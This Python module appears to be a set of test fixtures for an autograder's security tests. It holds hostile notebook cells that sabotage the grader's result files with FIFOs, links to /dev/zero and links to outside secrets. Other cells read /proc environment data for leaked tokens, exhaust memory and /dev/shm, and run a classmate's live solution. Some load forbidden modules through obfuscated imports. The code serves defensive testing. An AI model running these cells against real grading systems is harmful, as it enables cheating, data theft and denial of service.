"""Hostile code for the grader's attack tests: each piece is a code cell appended to the
unfilled hw01 notebook, and each did real damage to the grader before its fix.

:func:`readback` builds the cell that attacks what the grader reads back from ``JOB/out`` (the
recorder's files are written through ``pathlib.Path``, which the cell patches in the kernel).
"""

from __future__ import annotations

#: Where the job's results folder appears inside the sandbox.
OUT = "/tmp/job/out"

_PATCH = """
import io, json, os, pathlib
import numpy as np
_write_text, _write_bytes = pathlib.Path.write_text, pathlib.Path.write_bytes
TEXT, BYTES = {{}}, {{}}

def _write_text_patched(self, text, *args, **kwargs):
    if self.name in TEXT:
        return TEXT[self.name](self, text)
    return _write_text(self, text, *args, **kwargs)

def _write_bytes_patched(self, data):
    if self.name in BYTES:
        return BYTES[self.name](self, data)
    return _write_bytes(self, data)

def _outcomes(text, value):  # plain data writes a dict as {{"dict": [[key, value], ...]}}
    (key, outcomes), = json.loads(text)["dict"]
    returned = {{"dict": [["kind", "returned"], ["value", value]]}}
    return json.dumps({{"dict": [[key, [returned] * len(outcomes)]]}})

def affine_backward(dout, x, W):
    return 0.0
relu_backward = softmax_loss = two_layer_loss = affine_backward
pathlib.Path.write_text, pathlib.Path.write_bytes = _write_text_patched, _write_bytes_patched
"""

#: Each read-back attack: code that arms it (after ``_PATCH``), by name.
READBACK = {
    # q1.json becomes a FIFO: reading it blocked a grader worker forever.
    "fifo": 'TEXT["q1.json"] = lambda path, text: os.mkfifo(path)\n',
    # q3.json becomes a link to /dev/zero: reading it grew the grader's memory without bound.
    "dev_zero": 'TEXT["q3.json"] = lambda path, text: os.symlink("/dev/zero", path)\n',
    # q2.npz becomes a link to a file outside the sandbox: its shape reached the report.
    "secret_link": (
        'TEXT["q2.json"] = lambda path, text: '
        '_write_text(path, _outcomes(text, {{"array": "a0"}}))\n'
        'BYTES["q2.npz"] = lambda path, data: os.symlink({secret!r}, path)\n'
    ),
    # one 1 MB array referenced 100 times per case: 100 MB decoded from 1 MB on disk.
    "repeated_array": (
        'TEXT["q4.json"] = lambda path, text: '
        '_write_text(path, _outcomes(text, [{{"array": "a0"}}] * 100))\n'
        "def _megabyte(path, data):\n"
        "    buffer = io.BytesIO()\n"
        "    np.savez(buffer, a0=np.zeros(131072))\n"
        "    _write_bytes(path, buffer.getvalue())\n"
        'BYTES["q4.npz"] = _megabyte\n'
    ),
    # the driver's result.json made a FIFO: the driver, then the grader, blocked on it.
    "result_fifo": f'os.mkfifo("{OUT}/result.json")\n',
    # 3000 nested folders in out/: removing the job folder raised RecursionError.
    "deep_folders": (
        f'_here = os.getcwd()\nos.chdir("{OUT}")\n'
        'for _ in range(3000):\n    os.mkdir("d")\n    os.chdir("d")\n'
        "os.chdir(_here)\n"
    ),
}


def readback(secret: str, only: str | None = None) -> str:
    """The cell arming every read-back attack (or only the one named ``only``); ``secret``
    is a file outside the sandbox that the link attack points at."""
    names = [only] if only else list(READBACK)
    return (_PATCH + "".join(READBACK[n] for n in names)).format(secret=secret)


#: A line of a cell: what makes a backtracking pattern spin (10^5 characters in all).
ADVERSARIAL_CELLS = {
    "blank lines with spaces": "x = 1\n" + " \n" * 50_000,
    "check calls with blank lines": 'check("q1", f)\n' + "   \n" * 33_000,
    "many spaces": "def affine_backward" + " " * 100_000,
    "imports on one line": "from course_lib import " * 4_500,
    "one long token": "a" * 100_000,
}


def allocate(megabytes: int) -> str:
    """Hold ``megabytes`` of memory (for the scoring child's limits)."""
    return str(len(bytearray(megabytes * 2**20)))


def sleep(seconds: float) -> str:
    """Sleep ``seconds`` (for the scoring child's limits)."""
    import time

    time.sleep(seconds)
    return "woke"


def escape(token: str, names: list[str], socket_path: str) -> str:
    """Issue 26: what a kernel could see or reach of the grader. Each function of hw01 raises
    a report that reaches the feedback: q1 the grader's environment, command line and
    mounts (does any contain ``token`` or one of ``names``?), q2 how much of /dev/shm it
    filled, q3 how many of three child processes held 900 MB each, q4 whether a unix socket
    in a host folder answered."""
    return f"""
import os, socket, subprocess, sys, time

def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read().decode("utf-8", "replace")
    except OSError as exc:
        return ""

_seen = _read("/proc/1/environ") + _read("/proc/1/cmdline") + _read("/proc/self/mountinfo")
_seen += _read("/proc/self/environ")
LEAKS = [n for n in [{token!r}, *{names!r}] if n in _seen]

def _fill_shm():  # several files: one file is also capped by RLIMIT_FSIZE (64 MB)
    written = 0
    try:
        for part in range(5):
            with open(f"/dev/shm/fill{{part}}", "wb") as f:
                for _ in range(40):
                    f.write(b"x" * 2**20)
                    f.flush()
                    written += 1
    except OSError:
        pass
    return written
SHM = _fill_shm()

_holders = [subprocess.Popen([sys.executable, "-c",
    "b = bytearray(900 * 2**20)\\nfor i in range(0, len(b), 4096): b[i] = 1\\n"
    "print('held', flush=True)\\nimport time; time.sleep(1.5)"], stdout=subprocess.PIPE, text=True)
    for _ in range(3)]
HELD = sum("held" in p.communicate()[0] for p in _holders)

def _socket():
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(2)
        s.connect({socket_path!r})
        s.sendall(b"hello from a submission")
        return "connected"
    except OSError as exc:
        return type(exc).__name__
SOCKET = _socket()

def affine_backward(dout, x, W):
    raise ValueError(f"leaks: {{LEAKS}}")
def relu_backward(dout, x):
    raise ValueError(f"shm: wrote {{SHM}} MB")
def softmax_loss(scores, y):
    raise ValueError(f"memory: {{HELD}} of 3 children held 900 MB")
def two_layer_loss(params, X, y, reg):
    raise ValueError(f"socket: {{SOCKET}}")
"""


def thief(jobs: str, seconds: float = 8) -> str:
    """Issue 26: a blank notebook that looks for a classmate's live job under ``jobs`` (the
    grader's TMPDIR) for ``seconds`` and runs that job's cells (the solution, if it is one)."""
    return f"""
import json, os, time
_wanted = "def " + "affine" + "_backward"
_deadline = time.time() + {seconds}
STOLEN = 0
while time.time() < _deadline and not STOLEN:
    for _folder, _, _files in os.walk({jobs!r}):
        if "job.json" in _files:
            try:
                _cells = json.load(open(os.path.join(_folder, "job.json")))["cells"]
            except (OSError, ValueError):
                continue
            if any(_wanted in c for c in _cells) and not any("_deadline" in c for c in _cells):
                for _cell in _cells:
                    try:
                        exec(_cell)
                    except Exception:
                        pass
                STOLEN = 1
                break
    time.sleep(0.2)
"""


def clone(solution: str) -> str:
    """Issue 26: run the solution from another readable copy (a second clone, an export)."""
    return f"""
import pathlib
try:
    exec(pathlib.Path({solution!r}).read_text())
except OSError as exc:
    MISSED = type(exc).__name__
    def affine_backward(dout, x, W):
        raise ValueError(f"no clone: {{MISSED}}")
"""


#: Issue 26: tries to import forbidden modules by spellings a search of the source misses,
#: and to load a forbidden module's cached bytecode; ``report_tries`` raises what happened.
FORBIDDEN_PROBE = """
import glob, importlib, importlib.machinery, os
import course_lib
TRIES = []
try:
    _t = __import__("to" + "rch")
    TRIES.append(f"torch imported ({getattr(_t, '__file__', None) or 'a namespace package'})")
except ImportError as exc:
    TRIES.append(f"torch: {type(exc).__name__}")
try:
    importlib.import_module("course_lib." + "lay" + "ers")
    TRIES.append("layers imported")
except ImportError as exc:
    TRIES.append(f"layers: {type(exc).__name__}")
_folder = os.path.dirname(course_lib.__file__)
_cached = glob.glob(os.path.join(_folder, "__pycache__", "lay" + "ers.*.pyc"))
_cached += [os.path.join(_folder, "__pycache__", "lay" + "ers.cpython-311.pyc")]
lay = None
for _path in _cached:
    try:
        lay = importlib.machinery.SourcelessFileLoader("lay", _path).load_module()
        TRIES.append("layers bytecode loaded")
        break
    except (ImportError, OSError, EOFError) as exc:
        TRIES.append(f"bytecode: {type(exc).__name__}")

def report_tries(*args):
    raise ValueError(f"tries: {TRIES}")
"""

#: The probe, then q1 answered with the forbidden module's bytecode when it loaded.
FORBIDDEN = (
    FORBIDDEN_PROBE
    + """
def affine_backward(dout, x, W):
    if lay is None:
        report_tries()
    linear = lay.Linear(W.shape[0], W.shape[1])
    linear.params["W"][...] = W
    linear.forward(x)
    dx = linear.backward(dout)
    return dx, linear.grads["W"], linear.grads["b"]

relu_backward = report_tries
"""
)
